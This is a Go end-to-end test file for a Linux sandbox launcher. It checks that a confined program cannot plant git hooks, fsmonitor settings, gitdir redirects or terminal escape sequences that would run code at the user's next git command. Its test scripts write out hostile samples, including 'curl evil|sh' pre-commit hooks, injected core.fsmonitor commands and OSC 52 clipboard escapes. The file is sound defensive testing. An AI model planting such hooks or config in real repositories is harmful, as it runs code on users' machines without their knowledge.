//go:build linux

package e2e

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// What a program leaves in a repository must not run code at the user's
// next git command outside the sandbox.

// TestGitRedirects: besides .git/config and hooks, what points git at
// other config and hooks stays read-only — a submodule's git dir, a
// linked worktree's .git file — and a commondir the program creates (no
// bind can hold an absent file) is reported after the run.
func TestGitRedirects(t *testing.T) {
	for _, u := range users {
		t.Run(u.name, func(t *testing.T) {
			w := newWorld(t, u)
			repo := gitRepo(t, w)
			mod := filepath.Join(repo, ".git", "modules", "libs", "lib") // a submodule named libs/lib
			mustMkdir(t, mod)
			writeFile(t, filepath.Join(mod, "config"), "[core]\n")
			writeFile(t, filepath.Join(mod, "HEAD"), "ref: refs/heads/main\n")
			mustMkdir(t, filepath.Join(repo, "wt"))
			writeFile(t, filepath.Join(repo, "wt", ".git"), "gitdir: ../.git\n")
			chownTree(t, repo, u)
			r := w.sh("sandbox", `cd `+shQuote(repo)+` && echo '[core] fsmonitor = evil' >> .git/modules/libs/lib/config; `+
				`echo 'gitdir: /evil' > wt/.git; echo ../../evil > .git/commondir`)
			for _, f := range []string{filepath.Join(mod, "config"), filepath.Join(repo, "wt", ".git")} {
				if b, _ := os.ReadFile(f); strings.Contains(string(b), "evil") {
					t.Errorf("%s was rewritten", f)
				}
			}
			if !strings.Contains(r.stderr, ".git/commondir appeared while the program ran") {
				t.Errorf("no warning about the new .git/commondir; stderr %q", r.stderr)
			}
		})
	}
}

// TestGitPlanted: a submodule's git dir the program adds below .git
// (which a gitlink in the index would make the user's next git status
// enter) is reported after the run; a repository's existing submodule
// and worktree are not (a warning on every run would teach users to
// ignore it).
func TestGitPlanted(t *testing.T) {
	w := newWorld(t, nobody)
	repo := gitRepo(t, w)
	mustMkdir(t, filepath.Join(repo, "sm"))
	writeFile(t, filepath.Join(repo, "sm", ".git"), "gitdir: ../.git/modules/sm\n")
	mustMkdir(t, filepath.Join(repo, ".git", "modules", "sm"))
	writeFile(t, filepath.Join(repo, ".git", "modules", "sm", "config"), "[core]\n")
	writeFile(t, filepath.Join(repo, ".git", "modules", "sm", "HEAD"), "ref: refs/heads/main\n")
	chownTree(t, repo, nobody)
	if r := w.run("--workdir", repo, "--", "/bin/true"); strings.Contains(r.stderr, "git dir") {
		t.Errorf("a warning about the existing submodule: %q", r.stderr)
	}
	if r := w.runEnv(gitEnv, "--workdir", repo, "--", "git", "worktree", "add", "-q", "wt2"); r.code != 0 || strings.Contains(r.stderr, "git dir") {
		t.Errorf("git worktree add: exit %d, stderr %q; want it to work without a warning", r.code, r.stderr)
	}
	r := w.runEnv(gitEnv, "--workdir", repo, "--", "/bin/sh", "-c", "git init -q --bare .git/modules/lib")
	if want := "made the git dir " + filepath.Join(repo, ".git", "modules", "lib"); !strings.Contains(r.stderr, want) {
		t.Errorf("stderr %q: want %q", r.stderr, want)
	}
}

// TestGitMissingHooks: a repository without .git/hooks (git init
// --template=, libgit2) gets an empty one, read-only like any other, so
// the program cannot make one with a pre-commit hook in it.
func TestGitMissingHooks(t *testing.T) {
	w := newWorld(t, nobody)
	repo := gitRepo(t, w)
	os.RemoveAll(filepath.Join(repo, ".git", "hooks"))
	w.sh("sandbox", `mkdir -p `+shQuote(repo)+`/.git/hooks; echo 'curl evil|sh' > `+shQuote(repo)+`/.git/hooks/pre-commit`)
	if w.exists(filepath.Join(repo, ".git", "hooks", "pre-commit")) {
		t.Error("the program planted .git/hooks/pre-commit in a repository that had no hooks dir")
	}
}

// TestGitMissingHooksLinkedWorkdir: the same with the project reached
// through a symlink of the user's (cd /var/tmp/link/proj, link -> real;
// Fedora's /home -> /var/home) and given as --allow-write .: the hooks
// dir is made and held where the link leads.
func TestGitMissingHooksLinkedWorkdir(t *testing.T) {
	for _, u := range users {
		t.Run(u.name, func(t *testing.T) {
			w := newWorld(t, u)
			base := filepath.Dir(w.home)
			real := filepath.Join(base, "real")
			mustMkdir(t, real)
			if err := os.Symlink(real, filepath.Join(base, "link")); err != nil {
				t.Fatal(err)
			}
			c := exec.Command("git", "init", "-q", "proj")
			c.Dir = real
			if out, err := c.CombinedOutput(); err != nil {
				t.Fatalf("git init: %v\n%s", err, out)
			}
			os.RemoveAll(filepath.Join(real, "proj", ".git", "hooks"))
			// Redirects below the root are not "reached through a symlink".
			mustMkdir(t, filepath.Join(real, "proj", ".husky", "_"))
			writeFile(t, filepath.Join(real, "proj", ".husky", "_", "pre-commit"), "#!/bin/sh\n")
			writeFile(t, filepath.Join(real, "proj", "local.cfg"), "")
			writeFile(t, filepath.Join(real, "proj", ".git", "config"), "[core]\n\thooksPath = .husky/_\n[include]\n\tpath = ../local.cfg\n")
			chownTree(t, real, u)
			// PWD as a shell sets it after cd: the working directory as named.
			w.dir = filepath.Join(base, "link", "proj")
			r := w.runEnv([]string{"PWD=" + w.dir}, "--allow-write", ".", "--",
				"/bin/sh", "-c", "mkdir -p .git/hooks; echo 'curl evil|sh' > .git/hooks/pre-commit")
			if w.exists(filepath.Join(real, "proj", ".git", "hooks", "pre-commit")) {
				t.Errorf("the program planted .git/hooks/pre-commit through the linked workdir; exit %d, stderr %q", r.code, r.stderr)
			}
			if strings.Contains(r.stderr, "symlink") {
				t.Errorf("a warning about the user's own symlink: %q", r.stderr)
			}
		})
	}
}

// TestGitMissingHooksNotOurs: a repository without .git/hooks that the
// caller may not write (vendored, another user's) is no reason to warn,
// nor to refuse with --fail-closed: the program, with the caller's ids or
// fewer rights, cannot make the hooks dir either. nobody only: root may
// write anything.
func TestGitMissingHooksNotOurs(t *testing.T) {
	w := newWorld(t, nobody)
	vendored := filepath.Join(w.dataDir, "workspace", "vendored")
	c := exec.Command("git", "init", "-q", vendored)
	if out, err := c.CombinedOutput(); err != nil {
		t.Fatalf("git init: %v\n%s", err, out)
	}
	os.RemoveAll(filepath.Join(vendored, ".git", "hooks"))
	r := w.run("--fail-closed", "--", "/bin/sh", "-c", "mkdir "+shQuote(filepath.Join(vendored, ".git", "hooks"))+" 2>/dev/null; exit 0")
	if r.code != 0 || strings.Contains(r.stderr, "cannot make the missing") {
		t.Errorf("exit %d, stderr %q; want it run without a word about the hooks dir", r.code, r.stderr)
	}
	if w.exists(filepath.Join(vendored, ".git", "hooks")) {
		t.Error("the program made the hooks dir the launcher could not")
	}
}

// TestNestedRootMovedAside: with a project given as --allow-write inside
// the data dir, the directories between the two roots cannot be renamed
// either (mv ~/.omega/workspace w2, then a new workspace/proj with its
// own .git/config).
func TestNestedRootMovedAside(t *testing.T) {
	w := newWorld(t, nobody)
	repo := gitRepo(t, w)
	r := w.sh("sandbox", `mv "$DATA/workspace" "$DATA/w2" && mkdir -p `+shQuote(repo)+`/.git && echo '[core] fsmonitor = evil' > `+shQuote(repo)+`/.git/config`,
		"--allow-write", repo)
	if b, _ := os.ReadFile(filepath.Join(repo, ".git", "config")); strings.Contains(string(b), "evil") {
		t.Errorf("the repository's config was replaced by moving the workspace aside; stderr %q", r.stderr)
	}
}

// TestGitDirForms: git dirs git accepts in other forms are held too — a
// submodule's with a symlinked HEAD, one a .git file names elsewhere in
// the writable set, one a .git symlink leads to (with a warning: the
// link itself can be re-pointed) — and a repository inside a hidden
// store does not stop the launch.
func TestGitDirForms(t *testing.T) {
	w := newWorld(t, nobody)
	repo := gitRepo(t, w)
	gitDir := func(d string) {
		mustMkdir(t, d)
		writeFile(t, filepath.Join(d, "config"), "[core]\n")
	}
	sub := filepath.Join(repo, ".git", "modules", "sub")
	gitDir(sub)
	os.Symlink("refs/heads/main", filepath.Join(sub, "HEAD"))
	sep := filepath.Join(repo, "sepgit")
	gitDir(sep)
	writeFile(t, filepath.Join(sep, "HEAD"), "ref: refs/heads/main\n")
	mustMkdir(t, filepath.Join(repo, "wt"))
	writeFile(t, filepath.Join(repo, "wt", ".git"), "gitdir: ../sepgit\n")
	linked := filepath.Join(repo, "linked")
	gitDir(filepath.Join(linked, ".gitreal"))
	writeFile(t, filepath.Join(linked, ".gitreal", "HEAD"), "ref: refs/heads/main\n")
	os.Symlink(".gitreal", filepath.Join(linked, ".git"))
	gitDir(filepath.Join(w.home, ".password-store", ".git"))
	chownTree(t, w.home, nobody)
	configs := []string{filepath.Join(sub, "config"), filepath.Join(sep, "config"), filepath.Join(linked, ".gitreal", "config")}
	script := ""
	for _, c := range configs {
		script += "echo '[core] fsmonitor = evil' >> " + shQuote(c) + "; "
	}
	r := w.sh("sandbox", script, "--allow-write", w.home)
	for _, c := range configs {
		if b, _ := os.ReadFile(c); strings.Contains(string(b), "evil") {
			t.Errorf("%s was rewritten", c)
		}
	}
	if r.code != 0 && !strings.Contains(r.stderr, "Read-only") {
		t.Errorf("exit %d, stderr %q", r.code, r.stderr)
	}
	if !strings.Contains(r.stderr, filepath.Join(linked, ".git")+" is a symlink") {
		t.Errorf("no warning about the .git symlink; stderr %q", r.stderr)
	}
}

// TestGitFileThroughLink: a .git file whose gitdir runs through a symlink
// an earlier confined run planted (proj/lnk -> a repository outside the
// writable set) must not lead the launcher there: it made the missing
// hooks dir outside the writable set, as the caller.
func TestGitFileThroughLink(t *testing.T) {
	w := newWorld(t, nobody)
	target := filepath.Join(w.outside, "repo", ".git")
	mustMkdir(t, target)
	writeFile(t, filepath.Join(target, "config"), "[core]\n")
	proj := filepath.Join(w.dataDir, "workspace", "proj")
	mustMkdir(t, proj)
	os.Symlink(filepath.Dir(target), filepath.Join(proj, "lnk"))
	writeFile(t, filepath.Join(proj, ".git"), "gitdir: lnk/.git\n")
	chownTree(t, w.home, nobody)
	if r := w.run("--", "/bin/true"); r.code != 0 {
		t.Fatalf("exit %d, stderr %q", r.code, r.stderr)
	}
	if w.exists(filepath.Join(target, "hooks")) {
		t.Errorf("the launcher made %s/hooks, outside the writable set", target)
	}
}

// TestGitScanPlantedFiles: the scan after the run reads files the program
// made (a worktree's commondir): a FIFO must not hang the launcher and a
// link to /dev/zero must not make it read without end.
func TestGitScanPlantedFiles(t *testing.T) {
	for name, plant := range map[string]string{"fifo": "mkfifo", "zero": "ln -s /dev/zero"} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, nobody)
			w.timeout = 15 * time.Second
			repo := gitRepo(t, w)
			r := w.sh("sandbox", "mkdir -p .git/worktrees/x && "+plant+" .git/worktrees/x/commondir", "--workdir", repo)
			if r.code != 0 {
				t.Errorf("exit %d, stderr %q", r.code, r.stderr)
			}
		})
	}
}

// TestWarningEscapes: the warning after the run names a git dir the
// program made; its name's escape sequences (erase the line, forge
// another, write the clipboard) reach the terminal escaped.
func TestWarningEscapes(t *testing.T) {
	w := newWorld(t, nobody)
	repo := gitRepo(t, w)
	r := w.sh("sandbox", `d=".git/modules/x$(printf '\033]52;c;cHduZWQ=\007\033[2K\rforged\nomega-run: info: all clean')"; mkdir -p "$d" && touch "$d/HEAD"`, "--workdir", repo)
	if !strings.Contains(r.stderr, "the program made the git dir") {
		t.Fatalf("no warning: exit %d, stderr %q", r.code, r.stderr)
	}
	if strings.ContainsAny(r.stderr, "\x1b\a\r") || strings.Contains(r.stderr, "\nomega-run: info: all clean") {
		t.Errorf("raw control characters in stderr %q", r.stderr)
	}
}

// TestGitConfigRedirects: a repository's config can send git to hooks and
// configs in the worktree (core.hooksPath, as husky sets .husky/_;
// include.path): the hooks there and the included files are held
// read-only like .git/hooks and .git/config, and one that does not exist
// yet is reported when the program made it.
func TestGitConfigRedirects(t *testing.T) {
	for _, u := range users {
		t.Run(u.name, func(t *testing.T) {
			w := newWorld(t, u)
			repo := gitRepo(t, w)
			git := func(args ...string) {
				c := exec.Command("git", args...)
				c.Dir, c.Env = repo, append(os.Environ(), gitEnv...)
				if out, err := c.CombinedOutput(); err != nil {
					t.Fatalf("git %v: %v\n%s", args, err, out)
				}
			}
			// --file: a repository nobody owns is no repository to root's git.
			git("config", "--file", ".git/config", "core.hooksPath", ".husky/_")
			git("config", "--file", ".git/config", "include.path", "../.gitconfig.local")
			git("config", "--file", ".git/config", "--add", "include.path", "../.gitconfig.later")
			mustMkdir(t, filepath.Join(repo, ".husky", "_"))
			writeFile(t, filepath.Join(repo, ".husky", "_", "pre-commit"), "#!/bin/sh\nexit 0\n")
			writeFile(t, filepath.Join(repo, ".gitconfig.local"), "[user]\n\tname = x\n")
			chownTree(t, w.home, u)
			ran := filepath.Join(w.outside, "ran")
			script := `printf '#!/bin/sh\necho hook > ` + ran + `\n' > .husky/_/pre-commit
printf '#!/bin/sh\necho hook > ` + ran + `\n' > .husky/_/post-checkout
printf '[core]\n\tfsmonitor = "echo fsmonitor > ` + ran + `; false"\n' > .gitconfig.local
printf '[core]\n\tfsmonitor = "echo later > ` + ran + `; false"\n' > .gitconfig.later; true`
			r := w.sh("sandbox", script, "--workdir", repo)
			for _, made := range []string{".gitconfig.later", ".husky/_/post-checkout"} {
				if !strings.Contains(r.stderr, "the program made "+filepath.Join(repo, made)) {
					t.Errorf("no report of the %s the program made; stderr %q", made, r.stderr)
				}
			}
			os.Remove(filepath.Join(repo, ".gitconfig.later")) // the user heeds it
			if b, _ := os.ReadFile(filepath.Join(repo, ".gitconfig.local")); strings.Contains(string(b), "fsmonitor") {
				t.Errorf("the included config was rewritten: %q", b)
			}
			if b, _ := os.ReadFile(filepath.Join(repo, ".husky", "_", "pre-commit")); strings.Contains(string(b), "echo hook") {
				t.Error("the hook in core.hooksPath was rewritten")
			}
		})
	}
}

// TestGitConfigRedirectsPlanted: a repository an earlier run planted in
// the project, whose config includes itself a hundred times and names the
// project as its hooks directory, neither stalls the next launch (each
// config is read once) nor makes the project read-only (a writable root,
// or what holds one, is never held).
func TestGitConfigRedirectsPlanted(t *testing.T) {
	w := newWorld(t, nobody)
	w.timeout = 20 * time.Second
	proj := filepath.Join(w.dataDir, "workspace", "proj")
	planted := filepath.Join(proj, "x", ".git")
	mustMkdir(t, planted)
	writeFile(t, filepath.Join(planted, "HEAD"), "ref: refs/heads/main\n")
	writeFile(t, filepath.Join(planted, "config"), "[core]\n\thooksPath = ../..\n[include]\n"+strings.Repeat("\tpath = config\n", 100))
	chownTree(t, w.home, nobody)
	r := w.sh("sandbox", "echo ok > wrote && cat wrote", "--workdir", proj)
	if r.code != 0 || !strings.Contains(r.stdout, "ok") {
		t.Errorf("exit %d, stdout %q, stderr %q; want the project writable", r.code, r.stdout, r.stderr)
	}
}
